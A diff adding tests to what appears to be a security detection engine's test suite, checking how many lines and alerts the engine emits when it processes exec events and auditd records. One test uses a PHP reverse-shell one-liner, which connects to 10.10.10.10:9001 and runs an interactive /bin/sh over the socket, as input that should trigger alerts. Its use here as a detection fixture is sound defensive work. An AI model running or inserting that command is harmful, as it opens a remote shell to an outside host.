@@ -94,3 +94,37 @@ class TestReleased:
         engine = Engine(shipped, Settings(stats_interval_s=0, only_alerts=True))
         out = engine.stream().feed(_event(1, ["ls"]) + b"\nwhoami\n", 0.0)
         assert out == b"" and engine.released == 2 and engine.stats.dropped == 2
+
+
+class TestLinesOut:
+    """`Stream.lines_out`: the lines a feed returned, given only where they need no count (the loop
+    then writes them uncounted); a wrong figure would make events_out disagree with stdout."""
+
+    def test_ecs_blocks_give_their_count_exactly(self, shipped: Ruleset) -> None:
+        engine = Engine(shipped, Settings(stats_interval_s=0))
+        s = engine.stream()
+        args = ["php", "-r", '$s=fsockopen("10.10.10.10",9001);exec("/bin/sh -i <&3 >&3 2>&3");']
+        out = s.feed(b"".join(_event(i, ["ls"] if i % 3 else args) + b"\n" for i in range(50)) + b'{"a":', 0.0)
+        assert s.lines_out == out.count(b"\n") == 50 and engine.stats.alerts == 17
+        out = s.feed(b'1}\n{"b":2}\n', 0.0)  # the line begun before, completed
+        assert s.lines_out == out.count(b"\n") == 2
+
+    def test_text_and_malformed_lines_keep_the_count(self, shipped: Ruleset) -> None:
+        """Lines the router reads one by one (a text line, bad JSON) but holds none back: still exact."""
+        engine = Engine(shipped, Settings(stats_interval_s=0))
+        s = engine.stream()
+        out = s.feed(_event(1, ["ls"]) + b"\nwhoami\n{bad json\n", 0.0)
+        assert s.lines_out in (None, out.count(b"\n")) and out.count(b"\n") == 3
+
+    def test_held_or_passing_lines_are_counted_instead(self, shipped: Ruleset) -> None:
+        """Behind a held auditd event, or with an over-long line's piece, the output is counted."""
+        engine = Engine(shipped, Settings(stats_interval_s=0, audit_timeout_s=0.5))
+        s = engine.stream()
+        records = audit_exec(Exec(("id",), "/usr/bin/id"), eoe=False)
+        s.feed(("\n".join(records) + "\n").encode(), 0.0)
+        out = s.feed(_event(1, ["ls"]) + b"\n", 0.0)  # waits behind the auditd event: nothing leaves yet
+        assert out == b"" and s.lines_out is None
+        engine = Engine(shipped, Settings(stats_interval_s=0, max_line_bytes=100))
+        s = engine.stream()
+        out = s.feed(b"x" * 300 + b"\n" + _event(1, ["ls"]) + b"\n", 0.0)
+        assert s.lines_out is None and out.count(b"\n") == 2
